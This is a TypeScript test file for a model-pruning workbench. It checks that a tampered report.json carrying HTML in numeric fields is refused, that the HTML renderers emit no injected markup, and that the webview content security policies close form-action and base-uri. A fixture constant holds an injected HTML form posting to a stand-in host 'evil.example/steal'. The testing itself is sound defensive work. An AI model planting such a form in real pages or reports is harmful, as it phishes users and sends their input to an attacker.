// A hostile report.json (issue #8): numbers that are strings of HTML are refused on read with their JSON
// path; the renderers, given such values directly, still emit no markup of the file's; every webview's
// CSP closes form-action and base-uri (not covered by default-src).
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, describe, it } from 'node:test';
import { saveReport } from '../../src/operations/expertOperation';
import type { OperationReport, PlanImpact } from '../../src/protocol/expertOps';
import { MoeError } from '../../src/protocol/moeError';
import { reportCsp, reportHtml } from '../../src/report/reportHtml';
import { reportText } from '../../src/report/reportText';
import { explorerCsp, explorerHtml } from '../../src/webviews/expertExplorer/explorerHtml';
import { planPreviewHtml, previewCsp } from '../../src/webviews/planPreview/planPreviewHtml';
import { MAX_REPORT_BYTES, readReport } from '../../src/webviews/report/readReport';

const FORM = '<form action="https://evil.example/steal"><button>Continue</button></form>';
const E = 4;

const impact: PlanImpact = {
  tokens: 100,
  affectedTokens: 12,
  perLayer: [
    { layer: 0, affected: 10, gateMassLost: 0.05 },
    { layer: 1, affected: 4, gateMassLost: NaN },
  ],
  worst: [
    { index: 7, text: ' the', massLost: 0.9, layers: [0, 1], document: '/data/a.txt', line: 3, before: 'over\n', after: ' lazy dog' },
    { index: 2, text: '\n', massLost: 0.4, layers: [0] },
  ],
};

function goodReport(): OperationReport {
  const layer = (L: number) => ({
    layer: L,
    numExperts: E,
    topK: 2,
    experts: [0, 1, 3].map((e) => ({ sources: [{ expert: e, weight: 1 }], routerRow: e })),
    removed: [2],
    scores: [0.4, 0.3, 0.1, 0.2],
  });
  const plan = { operation: 'prune' as const, description: 'REAP, keep 3 per layer', parameters: { method: 'reap' as const, target: { kind: 'keep' as const, keep: 3 }, protect: [{ layer: 1, expert: 0 }] }, layers: [layer(0), layer(1)] };
  return {
    title: 'Pruned base → out',
    createdAt: '2025-03-04T05:06:07.000Z',
    record: {
      format: 'moe-workbench.operation',
      version: 1,
      createdAt: '2025-03-04T05:06:07.000Z',
      tool: 'moe-workbench test',
      source: { dir: '/models/base', sha256: 'ab'.repeat(32) },
      profile: { file: '/models/base/p.json', dataSha256: 'cd'.repeat(32), tokens: 100 },
      plan,
      experts: plan.layers.map((l) => ({ layer: l.layer, kept: [0, 1, 3], removed: [2] })),
    },
    written: { dir: '/models/out', files: ['config.json', 'model.safetensors'], bytes: 123_456 },
    statistic: 'reap',
    evaluation: {
      tokens: 64,
      chunks: 1,
      baseline: { dir: '/models/base', name: 'base', perplexity: 12.5, bytesOnDisk: 200_000, totalParams: 50_000, activeParams: 20_000, numExperts: 4 },
      candidate: { dir: '/models/out', name: 'out', perplexity: Infinity, bytesOnDisk: 150_000, totalParams: 40_000, activeParams: 20_000, numExperts: 3 },
      top1Agreement: 0.75,
      meanKl: 0.02,
      document: { tokens: 2, changedPredictions: 1, routingChanged: [{ layer: 0, share: 0.5 }], perToken: [{ index: 0, text: 'a', before: 'b', after: 'c', kl: 0.1 }, { index: 1, text: 'b', before: 'c', after: 'c', kl: 0 }] },
      runMs: 1000,
    },
    impact,
    notes: ['evaluated on calibration data (not held out)'],
  };
}

const dirs: string[] = [];
after(() => {
  for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
});

/** A report saved the way the tool saves it, then edited. */
async function savedReport(edit?: (v: any) => void): Promise<string> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'moe-report-injection-'));
  dirs.push(dir);
  await saveReport(dir, goodReport());
  if (edit) {
    const file = path.join(dir, 'report.json');
    const v = JSON.parse(fs.readFileSync(file, 'utf8'));
    edit(v);
    fs.writeFileSync(file, JSON.stringify(v));
  }
  return dir;
}

describe('report.json on read', () => {
  it('a report the tool saved reads back, its NaN and infinite measures as NaN', async () => {
    const r = readReport(await savedReport());
    assert.equal(r.title, 'Pruned base → out');
    assert.ok(Number.isNaN(r.impact!.perLayer[1]!.gateMassLost), 'NaN was stored as null');
    assert.ok(Number.isNaN(r.evaluation!.candidate.perplexity), 'Infinity was stored as null');
    assert.deepEqual(r.impact!.worst[0], impact.worst[0]);
    assert.deepEqual(r.record, goodReport().record);
  });

  it('keeps the optional provenance fields (profile copy, skipped files, removed staging folders)', async () => {
    const extra = {
      profile: { file: 'profile.json', sha256: 'ef'.repeat(32), originalFile: '/models/base/p.json', dataSha256: 'cd'.repeat(32), tokens: 100 },
      skippedFiles: [{ name: 'notes.txt', reason: 'a link out of the folder' }],
    };
    const r = readReport(
      await savedReport((v) => {
        Object.assign(v.record, extra);
        v.written.skipped = extra.skippedFiles;
        v.written.removedStale = ['/models/.out.partial-1'];
      }),
    ) as any;
    assert.deepEqual(r.record.profile, extra.profile);
    assert.deepEqual(r.record.skippedFiles, extra.skippedFiles);
    assert.deepEqual(r.written.skipped, extra.skippedFiles);
    assert.deepEqual(r.written.removedStale, ['/models/.out.partial-1']);
    // Both reports say where the recorded profile came from and what was not copied.
    for (const shown of [reportHtml(r).replace(/<\/?code>/g, ''), reportText(r)]) {
      assert.ok(shown.includes('profile.json (100 calibration tokens, a copy of /models/base/p.json)') || shown.includes('profile.json (100 tokens, a copy of /models/base/p.json)'), shown);
      assert.match(shown, /notes\.txt\s*(<span class="muted">)?\(a link out of the folder\)/);
    }
  });

  it('refuses HTML in every numeric field the issue found, naming the JSON path', async () => {
    const cases: [string, (v: any) => void][] = [
      ['impact.perLayer[0].layer', (v) => (v.impact.perLayer[0].layer = FORM)],
      ['impact.affectedTokens', (v) => (v.impact.affectedTokens = FORM)],
      ['impact.worst[1].index', (v) => (v.impact.worst[1].index = FORM)],
      ['record.plan.layers[1].topK', (v) => (v.record.plan.layers[1].topK = FORM)],
      ['record.plan.layers[0].experts[2].routerRow', (v) => (v.record.plan.layers[0].experts[2].routerRow = 9)],
      ['record.plan.layers[0].scores', (v) => v.record.plan.layers[0].scores.pop()],
      ['impact.perLayer[0].gateMassLost', (v) => (v.impact.perLayer[0].gateMassLost = FORM)],
      ['impact.worst[0].line', (v) => (v.impact.worst[0].line = FORM)],
      ['evaluation.baseline.bytesOnDisk', (v) => (v.evaluation.baseline.bytesOnDisk = FORM)],
      ['evaluation.document.perToken[0].kl', (v) => (v.evaluation.document.perToken[0].kl = FORM)],
      ['written.files[1]', (v) => (v.written.files[1] = 7)],
      ['statistic', (v) => (v.statistic = FORM)],
      ['record.version', (v) => delete v.record.version],
    ];
    for (const [where, edit] of cases) {
      const dir = await savedReport(edit);
      assert.throws(
        () => readReport(dir),
        (e: MoeError) => e instanceof MoeError && e.code === 'E_INPUT' && e.message.startsWith(`${path.join(dir, 'report.json')} is not a MoE Workbench operation report: ${where}: expected `),
        where,
      );
    }
  });
});

describe('report.json size', () => {
  it('refuses a file larger than any report before reading it', async () => {
    const dir = await savedReport();
    const file = path.join(dir, 'report.json');
    fs.truncateSync(file, MAX_REPORT_BYTES + 1); // sparse: nothing is written
    assert.throws(() => readReport(dir), (e: MoeError) => e.code === 'E_INPUT' && e.message.startsWith(`${file} is ${MAX_REPORT_BYTES + 1} bytes`));
  });
});

describe('renderers given hostile values directly', () => {
  /** The report with HTML in every numeric field the issue names (and a few more), as if never validated. */
  function hostile(): OperationReport {
    const r = goodReport() as any;
    r.impact.perLayer[0].layer = FORM;
    r.impact.perLayer[1].affected = FORM;
    r.impact.perLayer[1].gateMassLost = FORM;
    r.impact.affectedTokens = FORM;
    r.impact.tokens = FORM;
    r.impact.worst[0].index = FORM;
    r.impact.worst[0].massLost = FORM;
    r.impact.worst[0].line = FORM;
    r.impact.worst[0].layers = [FORM];
    r.record.plan.layers[0].topK = FORM;
    r.record.plan.layers[1].layer = FORM;
    r.record.profile.tokens = FORM;
    r.written.bytes = FORM;
    r.evaluation.document.tokens = FORM;
    r.evaluation.document.perToken[0].index = FORM;
    r.evaluation.baseline.numExperts = FORM;
    return r as OperationReport;
  }

  it('the report HTML has no <form and no markup of the file', () => {
    const html = reportHtml(hostile(), { nonce: 'n0nce' });
    assert.doesNotMatch(html, /<form/i);
    assert.doesNotMatch(html, /<button/i);
    assert.match(html, /<\/html>\n$/);
  });

  it('the CLI text does not crash on them', () => {
    assert.match(reportText(hostile()), /impact on the calibration sample/);
  });

  it('the plan preview has no <form either', () => {
    const r = hostile();
    const html = planPreviewHtml({
      modelName: 'm',
      plan: r.record.plan,
      statistic: 'reap',
      statisticLabel: 'REAP',
      profileNote: 'p',
      sources: [{ kind: 'sample', label: 'Calibration sample', impact: r.impact!, revealable: true }],
    });
    assert.doesNotMatch(html, /<form/i);
  });
});

describe('every webview CSP', () => {
  const closed = (csp: string): void => {
    assert.ok(csp.includes("form-action 'none'"), `form-action: ${csp}`);
    assert.ok(csp.includes("base-uri 'none'"), `base-uri: ${csp}`);
    assert.ok(csp.startsWith("default-src 'none'"), csp);
  };
  const metaCsp = (html: string): string => /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)![1]!.replace(/&#39;/g, "'");

  it('closes form-action and base-uri: explorer, plan preview, report panel and the saved report.html', async () => {
    for (const csp of [explorerCsp('S', 'N'), previewCsp('N'), previewCsp('N', 'S'), reportCsp('N'), reportCsp('N', 'S')]) closed(csp);
    closed(metaCsp(explorerHtml({ cspSource: 'S', asWebviewUri: (u: string) => u }, '/x.js')));
    closed(metaCsp(planPreviewHtml({ modelName: 'm', plan: goodReport().record.plan, statistic: 'reap', statisticLabel: 'REAP', profileNote: '', sources: [] }, { cspSource: 'S' })));
    closed(metaCsp(reportHtml(goodReport(), { cspSource: 'S' })));
    closed(metaCsp(fs.readFileSync(path.join(await savedReport(), 'report.html'), 'utf8')));
  });
});
